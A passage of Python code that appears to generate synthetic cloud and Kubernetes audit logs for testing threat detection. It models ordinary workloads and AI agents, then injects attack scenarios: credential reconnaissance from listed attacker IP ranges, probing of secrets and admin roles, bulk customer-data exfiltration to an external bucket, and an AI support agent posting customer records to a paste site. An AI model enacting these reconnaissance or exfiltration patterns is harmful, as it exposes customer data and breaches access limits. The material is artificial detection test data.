            verb = r.choice(self.verbs[res])
            ns = r.choice(self.nss)
            if res == "leases":
                dest = "%s/leases/%s" % (self.ns, self.comp)
                verb = r.choice(["get", "update"])
            elif res in ("pods", "replicasets", "deployments", "jobs"):
                app = r.choice(self.apps[ns])
                nm = {"pods": "%s-%s-%s" % (app, self.hash[app], rstr(r, K8S_ALNUM, 5)), "replicasets": "%s-%s" % (app, self.hash[app]),
                      "deployments": app, "jobs": "%s-%d" % (app, r.randint(29000000, 29900000))}[res]
                dest = "%s/%s/%s" % (ns, res, nm)
            elif res == "nodes":
                dest = "nodes/ip-10-30-%d-%d.ec2.internal" % (r.randint(0, 63), r.randint(1, 254))
            elif res == "events":
                dest = "%s/events/%s.%x" % (ns, r.choice(self.apps[ns]), r.getrandbits(60))
            else:
                dest = "%s/%s/%s" % (ns, res, r.choice(self.apps[ns]))
            if verb in ("list", "watch"):
                dest = "%s/%s" % (ns, res) if res not in ("nodes",) else "nodes"
            out = None
            if f.in_incident(t) and r.random() < 0.5:
                out = "error"
                for k in range(r.randint(1, 4)):
                    self.e(t + 200 * 2 ** k, "%s %s" % (verb, res), dest, "error" if r.random() < 0.6 else None, self.ip, "eks-" + self.cluster, self.ua(t))
            elif verb in ("update", "patch") and r.random() < 0.01:
                out = "error"  # 409 conflict
            self.e(t, "%s %s" % (verb, res), dest, out, self.ip, "eks-" + self.cluster, self.ua(t))


class Copilot(Ident):
    arch, kind, prof, median, sigma, family = "support_copilot", "ai_agent", "business", 250, 0.9, "agent"

    def setup(self):
        r = self.rng
        self.tenant = r.choice(["emea", "na", "apac", "smb", "enterprise", "vip", "latam"]) + "-%d" % r.randint(1, 9)
        self.name = "agent:support-copilot/%s" % self.tenant
        self.model = r.choice(["gpt-4o-2024-08-06", "claude-3-5-sonnet-20241022", "gemini-1.5-pro-002"])
        self.ua = "support-copilot/2.%d.%d langchain-core/0.3.%d httpx/0.27.2" % (r.randint(3, 6), r.randint(0, 9), r.randint(10, 19))
        self.ip = priv_ip(r, "10.244")
        self.newtool = r.random() < 0.8

    def session(self, t, r):
        sid = "sess_" + rstr(r, B62, 16)
        cus = "cus_%s" % rstr(r, B62, 14)
        tick = "%d" % r.randint(4_000_000, 4_999_999)
        a = {"session": sid, "model": self.model, "ticket": tick}
        f = self.g.fleet
        steps = [("tool:zendesk.get_ticket", "zendesk/tickets/%s" % tick), ("tool:crm.get_customer", "crm/customers/%s" % cus)]
        for _ in range(r.randint(0, 8)):
            x = r.random()
            if x < 0.35:
                steps.append(("tool:orders.list_for_customer", "orders/customers/%s" % cus))
            elif x < 0.6:
                steps.append(("tool:kb.search", "kb/index/support-articles"))
            elif x < 0.75:
                steps.append(("tool:orders.get", "orders/ord_%s" % rstr(r, B62, 14)))
            elif x < 0.82 and self.newtool and t >= f.release_t:
                steps.append(("tool:billing.get_invoice", "billing/invoices/in_%s" % rstr(r, B62, 14)))
            elif x < 0.9:
                steps.append(("tool:refunds.create", "payments/refunds/%s" % cus))
            else:
                steps.append(("tool:crm.get_customer", "crm/customers/%s" % cus))
        steps.append(("tool:zendesk.add_comment", "zendesk/tickets/%s" % tick))
        for act, dst in steps:
            t += r.randint(800, 9000)
            out = "error" if r.random() < 0.01 else None
            self.e(t, act, dst, out, self.ip, "eks-prod-use1", self.ua, records=r.randint(1, 5) if "list" in act or "search" in act else 1, attrs=a)

    def gen_day(self, d):
        r, f = self.rng, self.g.fleet
        surge = 1.8 if d == f.surge_day else 1.0
        if r.random() < 0.3:
            self.ip = priv_ip(r, "10.245" if self.g.fleet.start + d * DAY >= f.cluster_t else "10.244")
        for t in sorted(self.times(d, self.daily * self.day_factor(d) / 7.0, surge)):
            self.session(t, r)


class CodingAgent(Ident):
    arch, kind, prof, median, sigma, family = "coding_agent", "ai_agent", "office", 15, 0.7, "git"

    def setup(self):
        r = self.rng
        self.name = "agent:codegen/%s" % self.team
        self.repos = ["acme/%s-%s" % (self.team, x) for x in r.sample(["api", "worker", "infra", "web", "sdk", "proto", "jobs", "docs"], r.randint(2, 5))]
        self.ua = r.choice(["codegen-agent/0.%d.%d (mcp; node/20.15.1)" % (r.randint(8, 12), r.randint(0, 9)), "devin-runner/2024.11 git/2.45.2"])
        self.files = ["src/%s/%s.%s" % (r.choice(["handlers", "models", "utils", "client", "db"]), rstr(r, "abcdefghijklmnoprstu", r.randint(4, 9)), r.choice(["go", "py", "ts"])) for _ in range(60)]

    def gen_day(self, d):
        r = self.rng
        for t in sorted(self.times(d, self.daily * self.day_factor(d))):
            repo = r.choice(self.repos)
            ip = "10.60.%d.%d" % (r.randint(0, 255), r.randint(1, 254))
            a = {"session": "task_" + rstr(r, B62, 12)}
            self.e(t, "git:clone", "github.com/" + repo, None, ip, "agent-sandbox", self.ua, attrs=a)
            for _ in range(r.randint(3, 25)):
                t += r.randint(2000, 40000)
                self.e(t, "tool:fs.read", "github.com/%s/%s" % (repo, r.choice(self.files)), None, ip, "agent-sandbox", self.ua, attrs=a)
            for _ in range(r.randint(0, 3)):
                t += r.randint(5000, 60000)
                self.e(t, "tool:shell.run_tests", "ci/sandbox/%s" % repo, "error" if r.random() < 0.2 else None, ip, "agent-sandbox", self.ua, attrs=a)
            if r.random() < 0.6:
                br = "agent/%s-%d" % (r.choice(["fix", "feat", "chore", "deps"]), r.randint(1000, 9999))
                t += r.randint(5000, 30000)
                self.e(t, "git:push", "github.com/%s@refs/heads/%s" % (repo, br), None, ip, "agent-sandbox", self.ua, attrs=a)
                self.e(t + 1500, "POST /repos/{owner}/{repo}/pulls", "api.github.com/repos/%s/pulls" % repo, None, ip, "agent-sandbox", self.ua, attrs=a)
            if r.random() < 0.01:  # benign: new repo assigned
                self.repos.append("acme/%s-%s" % (self.team, rstr(r, "abcdefghijklmnop", 5)))


class ReleaseBot(Ident):
    arch, kind, prof, median, sigma, family = "release_bot", "bot", "office", 60, 0.9, "git"

    def setup(self):
        r = self.rng
        self.botname = r.choice(["renovate", "release-please", "semantic-release", "changesets", "mergify", "backport"])
        self.name = "github-app:acme-%s-%s[bot]" % (self.botname, self.team)
        self.repos = ["acme/%s-%s" % (self.team, x) for x in r.sample(["api", "worker", "infra", "web", "sdk", "proto", "jobs", "docs", "charts"], r.randint(2, 7))]
        self.hourly = self.botname == "renovate"
        self.ua = r.choice(["octokit-rest.js/20.1.1 octokit-core.js/5.2.0 Node.js/20", "git/2.47.0", "GitHub-Hookshot/8e2b7f1"])

    def gen_day(self, d):
        r = self.rng
        base = self.g.fleet.start + d * DAY
        ts = [base + h * HOUR + r.randint(0, 300000) for h in range(24) if r.random() < 0.5] if self.hourly else self.times(d, self.daily * self.day_factor(d) / 4)
        for t in sorted(ts):
            ip = "%d.%d.%d.%d" % (r.choice([20, 20, 13, 40, 52, 172]), r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))  # GitHub-hosted runner
            for repo in r.sample(self.repos, r.randint(1, min(3, len(self.repos)))):
                num = r.randint(800, 9000)
                self.e(t, "git:fetch", "github.com/" + repo, None, ip, None, self.ua)
                t += r.randint(1000, 20000)
                self.e(t, "GET /repos/{owner}/{repo}/pulls", "api.github.com/repos/%s/pulls" % repo, None, ip, None, self.ua, records=r.randint(0, 30))
                if r.random() < 0.4:
                    t += r.randint(1000, 20000)
                    self.e(t, "git:push", "github.com/%s@refs/heads/%s/%d" % (repo, self.botname, num), None, ip, None, self.ua)
                    self.e(t + 900, r.choice(["POST /repos/{owner}/{repo}/pulls", "PATCH /repos/{owner}/{repo}/pulls/{n}"]), "api.github.com/repos/%s/pulls/%d" % (repo, num), None, ip, None, self.ua)
                if r.random() < 0.08:
                    self.e(t + 3000, "POST /repos/{owner}/{repo}/releases", "api.github.com/repos/%s/releases" % repo, None, ip, None, self.ua)


class LogShipper(AwsIdent):
    arch, kind, prof, median, sigma = "log_shipper", "workload", "consumer", 2500, 0.7

    def setup(self):
        r = self.rng
        self.cluster = r.choice(["prod-use1", "prod-euw1", "staging-use1", "prod-usw2", "data-use1"]) + "-" + rstr(r, "abcdef", 2)
        self.agent = r.choice(["fluent-bit", "vector", "otel-collector"])
        self.name = self.role("%s-%s" % (self.agent, self.cluster))
        self.ua = {"fluent-bit": "fluent-bit/3.0.7", "vector": "vector/0.39.0 (x86_64-unknown-linux-gnu)", "otel-collector": "opentelemetry-collector-contrib/0.104.0"}[self.agent]
        self.nodes = [priv_ip(r, "10.30") for _ in range(r.randint(4, 60))]
        self.apps = ["%s-%s" % (t, r.choice(["api", "worker", "web"])) for t in r.sample(TEAMS, 8)]
        self.stream = "arn:aws:firehose:us-east-1:%s:deliverystream/logs-%s" % (self.acct, self.cluster)

    def gen_day(self, d):
        r, f = self.rng, self.g.fleet
        surge = 2.0 if d == f.surge_day else 1.0
        ts = self.times(d, self.daily * self.day_factor(d), surge)
        if f.start + d * DAY <= f.incident_t < f.start + (d + 1) * DAY:  # backlog flush after incident
            e = f.incident_t + f.incident_len
            ts += [e + r.randint(0, 30 * MIN) for _ in range(int(self.daily / 24 * 4))]
        for t in sorted(ts):
            if r.random() < 0.002:
                self.nodes[r.randrange(len(self.nodes))] = priv_ip(r, "10.30")
            ip = r.choice(self.nodes)
            out = "error" if (f.in_incident(t) and r.random() < 0.3) or r.random() < 0.001 else None
            if r.random() < 0.8:
                self.e(t, "firehose:PutRecordBatch", self.stream, out, ip, None, self.ua, nbytes=r.randint(20000, 1_000_000), records=r.randint(10, 500))
            else:
                app = r.choice(self.apps)
                self.e(t, "logs:PutLogEvents", "arn:aws:logs:us-east-1:%s:log-group:/eks/%s/%s:log-stream:%s-%s-%s" % (self.acct, self.cluster, app, app, rstr(r, K8S_ALNUM, 10), rstr(r, K8S_ALNUM, 5)),
                       out, ip, None, self.ua, nbytes=r.randint(2000, 200000), records=r.randint(1, 200))


class BackupJob(AwsIdent):
    arch, kind, prof, median, sigma = "backup_job", "service_account", "flat", 1, 0

    def setup(self):
        r = self.rng
        self.db = "%s-%s" % (self.team, r.choice(["pg", "mysql", "aurora", "docdb"]))
        self.name = self.role("backup-%s" % self.db)
        self.hour, self.minute = r.choice([0, 1, 2, 3, 4, 22, 23]), r.choice([0, 10, 15, 30, 45])
        self.bucket = "acme-%s-backups-%s" % (self.env, r.choice(["use1", "usw2", "euw1"]))
        self.size = math.exp(r.gauss(math.log(20e9), 1.2))
        self.via_nat = r.random() < 0.6
        self.nat_idx = r.randint(0, 2)
        self.ua = "aws-cli/2.15.40 Python/3.11.8 Linux/5.10.215-203.850.amzn2.x86_64 exe/x86_64.amzn.2 exec-env/AWS_ECS_FARGATE command/%s"

    def gen_day(self, d):
        r = self.rng
        base = self.g.fleet.start + d * DAY
        t = base + self.hour * HOUR + self.minute * MIN + r.randint(0, 30000)
        ip = self.egress(t, priv_ip(r, "10.12"))
        dt = time.strftime("%Y-%m-%d", time.gmtime(t // 1000))
        snap = "arn:aws:rds:us-east-1:%s:snapshot:%s-%s" % (self.acct, self.db, dt)
        self.e(t, "rds:CreateDBSnapshot", snap, None, ip, None, self.ua % "rds.create-db-snapshot")
        for _ in range(r.randint(6, 40)):
            t += r.randint(28000, 32000)
            self.e(t, "rds:DescribeDBSnapshots", snap, None, ip, None, self.ua % "rds.describe-db-snapshots")
        full = d % 7 == 6
        size = self.size * (5 if full else 1) * r.uniform(0.9, 1.1)
        key = "arn:aws:s3:::%s/%s/%s/%s-%s.dump.zst" % (self.bucket, self.db, dt, "full" if full else "incr", rstr(r, HEX, 12))
        self.e(t + 1000, "s3:CreateMultipartUpload", key, None, ip, None, self.ua % "s3.cp")
        parts = max(1, min(int(size / 5e8), 400))
        for i in range(parts):
            t += r.randint(1500, 6000)
            self.e(t, "s3:UploadPart", key, "error" if r.random() < 0.003 else None, ip, None, self.ua % "s3.cp", nbytes=size / parts)
        self.e(t + 2000, "s3:CompleteMultipartUpload", key, None, ip, None, self.ua % "s3.cp")
        old = "arn:aws:rds:us-east-1:%s:snapshot:%s-%s" % (self.acct, self.db, time.strftime("%Y-%m-%d", time.gmtime(t // 1000 - 14 * 86400)))
        self.e(t + 5000, "rds:DeleteDBSnapshot", old, "error" if d < 14 else None, ip, None, self.ua % "rds.delete-db-snapshot")


class MetricsScraper(AwsIdent):
    arch, kind, prof, median, sigma = "metrics_scraper", "service_account", "flat", 1, 0

    def setup(self):
        r = self.rng
        self.vendor = r.choice(["datadog", "cloudwatch-exporter", "grafana-cloud", "newrelic"])
        self.name = self.role("%s-integration-%s" % (self.vendor, self.team))
        self.period = r.choice([60, 300, 300, 600])
        self.nq = r.randint(1, 3)
        self.saas = self.vendor != "cloudwatch-exporter"
        self.ips = ["3.233.%d.%d" % (r.randint(144, 159), r.randint(1, 254)) for _ in range(12)] if self.saas else [priv_ip(r, "10.20")]
        self.via_nat = False
        self.ua = {"datadog": "datadog-agent/7.54.1 aws-sdk-go/1.50.38 (go1.21.9; linux; amd64)", "cloudwatch-exporter": "aws-sdk-java/2.25.31 Linux/5.10 OpenJDK_64-Bit_Server_VM/17.0.11 cloudwatch_exporter/0.15.5",
                   "grafana-cloud": "grafana-cloud-aws/1.8.2 aws-sdk-go/1.51.0", "newrelic": "newrelic-integrations/2.4 aws-sdk-go/1.49.6"}[self.vendor]
        self.svcs = r.sample(["ec2:DescribeInstances", "rds:DescribeDBInstances", "elasticloadbalancing:DescribeLoadBalancers", "tag:GetResources",
                              "lambda:ListFunctions", "sqs:ListQueues", "dynamodb:ListTables", "elasticache:DescribeCacheClusters"], r.randint(2, 6))

    def gen_day(self, d):
        r, f = self.rng, self.g.fleet
        base = f.start + d * DAY
        ip_i = r.randrange(len(self.ips))
        throttle_until = 0
        for k in range(DAY // (self.period * 1000)):
            t = base + k * self.period * 1000 + r.randint(0, 3000)
            if r.random() < 0.01:
                ip_i = r.randrange(len(self.ips))
            ip = self.ips[ip_i]
            if r.random() < 0.0015:
                throttle_until = t + r.randint(2, 15) * MIN
            for q in range(self.nq):
                out = "error" if (t < throttle_until and r.random() < 0.6) or (f.in_incident(t) and r.random() < 0.3) else None
                self.e(t + q * 150, "cloudwatch:GetMetricData", "monitoring.us-east-1.amazonaws.com", out, ip, None, self.ua, records=r.randint(50, 500))
            if k % max(1, 600 // self.period) == 0:
                for s in self.svcs:
                    self.e(t + 2000 + r.randint(0, 5000), s, "%s.us-east-1.amazonaws.com" % s.split(":")[0], None, ip, None, self.ua)


class NotebookSA(AwsIdent):
    arch, kind, prof, median, sigma = "notebook_sa", "service_account", "office", 150, 1.1

    def setup(self):
        r = self.rng
        self.who = "%s-%s" % (self.team, r.choice(["ds", "ml", "bi", "research", "ab-testing"]))
        self.name = self.role("sagemaker-notebook-%s" % self.who)
        self.env = "prod"
        self.acct = ACCTS["data"]
        self.tables = r.sample(["orders", "sessions", "events", "payments", "churn_features", "experiments", "clicks", "refunds", "reviews"], r.randint(2, 5))
        self.ip = priv_ip(r, "10.50")
        self.via_nat = False
        self.lazy = r.uniform(0.3, 0.9)

    def gen_day(self, d):
        r = self.rng
        if r.random() < 0.15:
            self.ip = priv_ip(r, "10.50")  # instance restarted
        if r.random() > self.lazy:
            return
        big = 8.0 if r.random() < 0.05 else 1.0  # benign heavy analysis day
        for t in sorted(self.times(d, self.daily * self.day_factor(d) * big / self.lazy)):
            ua = boto_ua(t, self, " exec-env/AWS_SageMaker") if r.random() < 0.7 else "pyathena/3.8.3 " + boto_ua(t, self)
            tab = r.choice(self.tables)
            x = r.random()
            if x < 0.15:
                self.e(t, "athena:StartQueryExecution", "arn:aws:athena:us-east-1:%s:workgroup/%s" % (self.acct, self.who), "error" if r.random() < 0.05 else None, self.ip, None, ua)
            elif x < 0.3:
                self.e(t, "athena:GetQueryResults", "arn:aws:athena:us-east-1:%s:workgroup/%s" % (self.acct, self.who), None, self.ip, None, ua, records=r.randint(10, 100000))
            elif x < 0.4:
                self.e(t, "glue:GetTable", "arn:aws:glue:us-east-1:%s:table/lake/%s" % (self.acct, tab), None, self.ip, None, ua)
            else:
                dt = time.strftime("%Y-%m-%d", time.gmtime(t // 1000 - r.randint(0, 90) * 86400))
                self.e(t, "s3:GetObject", "arn:aws:s3:::acme-datalake-curated/%s/dt=%s/part-%05d-%s.parquet" % (tab, dt, r.randint(0, 200), uuid(r)), None, self.ip, None, ua,
                       nbytes=r.randint(1_000_000, 200_000_000))


class SecretsSync(Ident):
    arch, kind, prof, median, sigma = "secrets_sync", "workload", "flat", 1, 0

    def setup(self):
        r = self.rng
        self.cluster = r.choice(["prod-use1", "prod-euw1", "staging-use1", "prod-usw2", "data-use1"])
        self.env = "staging" if "staging" in self.cluster else "prod"
        self.acct = ACCTS[self.env]
        ns = r.choice(TEAMS)
        self.name = "system:serviceaccount:%s:external-secrets-%s" % (ns, self.team) if r.random() < 0.5 else "arn:aws:iam::%s:role/eso-%s-%s" % (self.acct, self.cluster, self.team)
        self.interval = r.choice([300, 900, 3600])
        self.secrets = ["arn:aws:secretsmanager:us-east-1:%s:secret:%s/%s-%s" % (self.acct, self.team, x, rstr(r, B62, 6)) for x in r.sample(["db-password", "api-token", "stripe-key", "jwt-signing", "redis-auth", "smtp", "oauth-client", "kafka-sasl"], r.randint(1, 6))]
        self.ip = priv_ip(r, "10.244")
        self.new_secret_day = r.randint(1, self.g.days - 1) if r.random() < 0.3 else None

    def gen_day(self, d):
        r, f = self.rng, self.g.fleet
        base = f.start + d * DAY
        if self.new_secret_day == d:
            self.secrets.append("arn:aws:secretsmanager:us-east-1:%s:secret:%s/%s-%s" % (self.acct, self.team, r.choice(["feature-flags", "partner-webhook", "s3-presign"]), rstr(r, B62, 6)))
        off = r.randint(0, self.interval * 1000)
        for k in range(DAY // (self.interval * 1000)):
            t = base + off + k * self.interval * 1000
            if r.random() < 0.004 or (t >= f.cluster_t and self.ip.startswith("10.244")):
                self.ip = priv_ip(r, "10.245" if t >= f.cluster_t else "10.244")
            ua = "external-secrets/v0.9.20 " + gov2_ua(t, self, "secretsmanager#1.32.1")
            for s in self.secrets:
                t += r.randint(20, 400)
                self.e(t, "secretsmanager:GetSecretValue", s, "error" if r.random() < 0.001 else None, self.ip, None, ua)


ARCHES = [(K8sController, 9), (MeshService, 11), (EventWorker, 7), (PartnerKey, 12), (CronEtl, 10), (TfDeployer, 6), (ReleaseBot, 5),
          (Copilot, 7), (CodingAgent, 4), (LogShipper, 3), (BackupJob, 5), (MetricsScraper, 5), (NotebookSA, 6), (SecretsSync, 6), (LegacyKey, 4)]


# -------------------------------------------------------------------- attacks

ATTACK_IPS = ["185.220.101.%d", "45.155.205.%d", "193.32.162.%d", "5.188.206.%d", "104.244.72.%d", "89.248.165.%d", "141.98.11.%d", "23.129.64.%d"]
OLD_TOOLS = ["aws-cli/1.18.69 Python/2.7.18 Linux/4.14.173-137.229.amzn2.x86_64 botocore/1.16.19",
             "Boto3/1.9.201 Python/3.7.3 Linux/5.4.0-1045-aws Botocore/1.12.201",
             "aws-sdk-go/1.44.0 (go1.19; linux; amd64)", "python-requests/2.25.1", "curl/7.81.0",
             "aws-cli/2.13.5 Python/3.11.4 Darwin/22.6.0 exe/x86_64 prompt/off command/sts.get-caller-identity"]
RECON = ["sts:GetCallerIdentity", "iam:ListRoles", "iam:ListUsers", "iam:GetAccountAuthorizationDetails", "s3:ListBuckets", "ec2:DescribeInstances",
         "ec2:DescribeRegions", "secretsmanager:ListSecrets", "lambda:ListFunctions", "iam:ListAttachedRolePolicies", "iam:ListAccessKeys",
         "ssm:DescribeParameters", "rds:DescribeDBInstances", "organizations:DescribeOrganization", "iam:GetAccountSummary"]
PROBE = ["iam:CreateUser", "iam:PassRole", "iam:CreateAccessKey", "ec2:RunInstances", "lambda:CreateFunction", "ssm:SendCommand", "sts:AssumeRole",
         "s3:GetObject", "secretsmanager:GetSecretValue", "kms:Decrypt", "dynamodb:Scan", "rds:CreateDBSnapshot", "ec2:CreateSnapshot",
         "iam:PutUserPolicy", "ecr:GetAuthorizationToken", "s3:PutBucketPolicy", "glue:GetConnections", "ec2:GetPasswordData"]

KIND_ELIGIBLE = {
    "stolen_credentials": ["tf_deployer", "cron_etl", "partner_api_key", "legacy_report_key", "backup_job", "notebook_sa", "release_bot", "event_worker", "metrics_scraper"],
    "permission_probing": ["tf_deployer", "cron_etl", "event_worker", "notebook_sa", "backup_job", "log_shipper", "secrets_sync", "k8s_controller", "partner_api_key"],
    "exfil_burst": ["cron_etl", "notebook_sa", "event_worker", "support_copilot", "partner_api_key", "legacy_report_key", "backup_job"],
    "low_slow_exfil": ["cron_etl", "notebook_sa", "event_worker", "partner_api_key", "support_copilot", "mesh_service", "secrets_sync"],
    "agent_overreach": ["support_copilot", "coding_agent"],
    "off_hours_new_write": ["cron_etl", "tf_deployer", "release_bot", "backup_job", "coding_agent"],
    "privilege_escalation": ["tf_deployer", "cron_etl", "event_worker", "k8s_controller", "secrets_sync"],
    "defense_evasion": ["tf_deployer", "backup_job", "metrics_scraper", "event_worker", "log_shipper", "k8s_controller"],
}


def pub_ip(r):
    return r.choice(ATTACK_IPS) % r.randint(2, 254)


def usual(ident):
    """The identity's usual source and client, as its recent events would show."""
    r = ident.rng
    t = ident.atk_t
    a = ident.arch
    if a == "event_worker":
        ip = ident.source_ip(t)
    elif isinstance(ident, AwsIdent) and getattr(ident, "via_nat", False):
        ip = ident.g.fleet.nat_ips(t)[ident.nat_idx % 3]
    elif getattr(ident, "ip", None):
        ip = ident.ip
    elif hasattr(ident, "ips"):
        ip = ident.ips[0]
    elif hasattr(ident, "nodes"):
        ip = ident.nodes[0]
    else:
        ip = priv_ip(r, {"tf_deployer": "10.40", "coding_agent": "10.60"}.get(a, "10.12"))
    if a == "k8s_controller":
        ua = ident.ua(t)
    elif a == "tf_deployer":
        ua = ident.ua(t, "iam")
    elif a == "cron_etl":
        ua = boto_ua(t, ident, " exec-env/AWS_ECS_FARGATE")
    elif a == "event_worker":
        ua = boto_ua(t, ident, " exec-env/AWS_Lambda_python%s" % ident.pyv, ident.pyv + ".7")
    elif a == "notebook_sa":
        ua = boto_ua(t, ident, " exec-env/AWS_SageMaker")
    elif a == "secrets_sync":
        ua = "external-secrets/v0.9.20 " + gov2_ua(t, ident, "secretsmanager#1.32.1")
    elif a == "backup_job":
        ua = ident.ua % "s3.cp"
    elif hasattr(ident, "ua0"):
        ua = ident.ua1 if t >= ident.upgrade_t else ident.ua0
    else:
        ua = ident.ua
    return ip, ua


def attack_events(g, ident, kind, aid, t0, level):
    r = random.Random("indep-%d-atk-%s" % (g.seed, aid))
    E = lambda t, a, d, o=None, **k: g.emit(ident, t, a, d, o, atk=aid, **k)
    acct = getattr(ident, "acct", ACCTS["prod"])
    fam = ident.family
    n = {"subtle": 1, "moderate": 2, "loud": 4}[level]
    t = t0
    desc = ""
    uip, uua = usual(ident)
    if kind == "stolen_credentials":
        ip, ua = (pub_ip(r), r.choice(OLD_TOOLS)) if level != "subtle" else ("54.%d.%d.%d" % (r.randint(0, 255), r.randint(0, 255), r.randint(1, 254)), r.choice(OLD_TOOLS[1:3]))
        if fam == "api":
            ua = r.choice(["python-requests/2.25.1", "curl/7.81.0", "Go-http-client/1.1"])
            host = "api.acme-pay.com"
            seq = [("GET /v1/account", host + "/v1/account"), ("GET /v1/webhook_endpoints", host + "/v1/webhook_endpoints")]
            for p in range(r.randint(2, 6) * n):
                seq.append(("GET /v1/customers", host + "/v1/customers?limit=100&starting_after=cus_%s" % rstr(r, B62, 14)))
            if level != "subtle":
                seq.append(("POST /v1/webhook_endpoints", host + "/v1/webhook_endpoints"))
            for a, d in seq:
                t += r.randint(1500, 40000)
                E(t, a, d, "denied" if r.random() < 0.2 else None, ip=ip, ua=ua, records=100 if "customers" in a else 1)
            desc = "leaked key used from %s with %s: account/webhook recon and customer paging" % (ip, ua)
        elif fam == "git":
            ua = "python-requests/2.25.1"
            seq = [("GET /user", "api.github.com/user"), ("GET /orgs/{org}/repos", "api.github.com/orgs/acme/repos")]
            for rep in r.sample(["payments-core", "infra-secrets", "terraform-live", "auth-service", "billing", "data-pipelines", "mobile-app", "k8s-manifests"], 2 + n):
                seq.append(("git:clone", "github.com/acme/" + rep))
            for a, d in seq:
                t += r.randint(2000, 30000)
                E(t, a, d, "denied" if r.random() < 0.25 else None, ip=ip, ua=ua)
            desc = "bot token used from %s: org repo listing and clones of unrelated repos" % ip
        else:
            k = {"subtle": r.randint(3, 6), "moderate": r.randint(12, 30), "loud": r.randint(50, 120)}[level]
            acts = ["sts:GetCallerIdentity"] + [r.choice(RECON) for _ in range(k - 1)]
            for a in acts:
                t += r.randint(300, 20000)
                reg = r.choice(["us-east-1", "us-west-2", "eu-west-1", "ap-southeast-1"]) if level == "loud" else "us-east-1"
                E(t, a, "%s.%s.amazonaws.com" % (a.split(":")[0], reg), "denied" if r.random() < 0.3 else None, ip=ip, ua=ua)
            if level != "loud":
                t += r.randint(5000, 60000)
                E(t, "secretsmanager:GetSecretValue", "arn:aws:secretsmanager:us-east-1:%s:secret:prod/db-admin-%s" % (acct, rstr(r, B62, 6)), "denied" if r.random() < 0.5 else None, ip=ip, ua=ua)
            desc = "credentials used from %s with %s: %d recon calls" % (ip, ua.split(" ")[0], k)
    elif kind == "permission_probing":
        k = {"subtle": r.randint(8, 15), "moderate": r.randint(20, 45), "loud": r.randint(60, 150)}[level]
        ua = uua if r.random() < 0.6 else "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0 exe/x86_64.debian.12 prompt/off"
        if fam == "k8s":
            acts = ["list secrets", "get secrets", "create pods", "create pods/exec", "create clusterrolebindings", "list nodes", "create serviceaccounts/token", "delete pods", "get configmaps"]
            for _ in range(k):
                t += r.randint(100, 4000)
                a = r.choice(acts)
                E(t, a, "%s/%s/%s" % (r.choice(["kube-system", "payments", "default", "vault"]), a.split(" ")[1], r.choice(["admin-token", "vault-0", "aws-creds", "db"])),
                  "denied" if r.random() < 0.85 else None, ip=uip, net="eks-" + getattr(ident, "cluster", "prod-use1"), ua=uua)
        elif fam == "api":
            routes = ["GET /v1/admin/users", "POST /v1/payouts", "GET /v1/customers/{id}/cards", "DELETE /v1/webhooks/{id}", "GET /v1/reports/all", "POST /v1/transfers", "GET /v1/keys"]
            for _ in range(k):
                t += r.randint(200, 6000)
                a = r.choice(routes)
                E(t, a, "api.acme-pay.com" + a.split(" ")[1].replace("{id}", rstr(r, B62, 10)), "denied" if r.random() < 0.9 else None, ip=uip, ua=uua)
        else:
            for _ in range(k):
                t += r.randint(100, 5000)
                a = r.choice(PROBE)
                svc = a.split(":")[0]
                d = {"s3": "arn:aws:s3:::acme-prod-%s/%s" % (r.choice(["finance", "hr-exports", "customer-pii", "terraform-state"]), rstr(r, HEX, 8)),
                     "secretsmanager": "arn:aws:secretsmanager:us-east-1:%s:secret:%s-%s" % (acct, r.choice(["prod/root-db", "stripe/live", "okta/api"]), rstr(r, B62, 6)),
                     "sts": "arn:aws:iam::%s:role/%s" % (acct, r.choice(["OrganizationAccountAccessRole", "admin", "breakglass"]))}.get(svc, "%s.us-east-1.amazonaws.com" % svc)
                E(t, a, d, "denied" if r.random() < 0.85 else None, ip=uip, ua=ua)
        desc = "%d calls across never-used actions, mostly denied" % k
    elif kind == "exfil_burst":
        dur = r.randint(15, 50) * MIN
        rate = max(getattr(ident, "daily", 100), 40) / 24.0 * 20 * dur / HOUR
        k = int(min(max(rate, 60, 20 * getattr(ident, "files", 0)), 3000))
        if fam == "agent":
            for i in range(k):
                t = t0 + int(i * dur / k) + r.randint(0, 2000)
                E(t, "tool:crm.get_customer", "crm/customers/cus_%s" % rstr(r, B62, 14), ip=uip, net="eks-prod-use1", ua=uua, records=1,
                  attrs={"session": "sess_" + rstr(r, B62, 16)} if i % 50 == 0 else None)
            for j in range(max(1, k // 200)):
                E(t + 1000 + j, "tool:http.post", "https://paste.%s/api/upload" % r.choice(["ee", "rs", "gg"]), ip=uip, net="eks-prod-use1", ua=uua, nbytes=r.randint(5, 40) * 1_000_000)
            desc = "agent read %d customer records in %d min and posted them to an external paste host" % (k, dur // MIN)
        elif fam == "api":
            ua = uua
            for i in range(k):
                t = t0 + int(i * dur / k) + r.randint(0, 2000)
                E(t, "GET /v1/customers/export", "api.acme-pay.com/v1/customers/export?page=%d" % i, ip=uip, ua=ua, records=1000, nbytes=r.randint(400_000, 900_000))
            desc = "%d bulk customer export pages in %d min (never used route)" % (k, dur // MIN)
        else:
            ua = uua
            src = "acme-prod-customer-pii" if r.random() < 0.5 else getattr(ident, "src", "acme-datalake-curated")
            ext = "arn:aws:s3:::dl-sync-%s" % rstr(r, "abcdefghijklmnopqrstuvwxyz0123456789", 10)
            for i in range(k):
                t = t0 + int(i * dur / k) + r.randint(0, 2000)
                E(t, "s3:GetObject", "arn:aws:s3:::%s/%s/%s.parquet" % (src, r.choice(["customers", "cards", "addresses"]), uuid(r)), ip=uip, ua=ua, nbytes=r.randint(50, 250) * 1_000_000)
                if i % 20 == 0:
                    E(t + 500, "s3:PutObject", "%s/%s.bin" % (ext, uuid(r)), ip=uip, ua=ua, nbytes=r.randint(1, 5) * 1_000_000_000)
            desc = "%d GetObject from %s in %d min, copied to external bucket %s" % (k, src, dur // MIN, ext)
    elif kind == "low_slow_exfil":
        hours = r.randint(6, 20)
        per_h = {"subtle": r.randint(2, 5), "moderate": r.randint(6, 15), "loud": r.randint(15, 40)}[level]
        cnt = 0
        for h in range(hours):
            for _ in range(poisson(r, per_h)):
                t = t0 + h * HOUR + r.randint(0, HOUR - 1)
                cnt += 1
                if fam == "agent":
                    E(t, "tool:crm.get_customer", "crm/customers/cus_%s" % rstr(r, B62, 14), ip=uip, net="eks-prod-use1", ua=uua, records=1,
                      attrs={"session": "sess_" + rstr(r, B62, 16)})
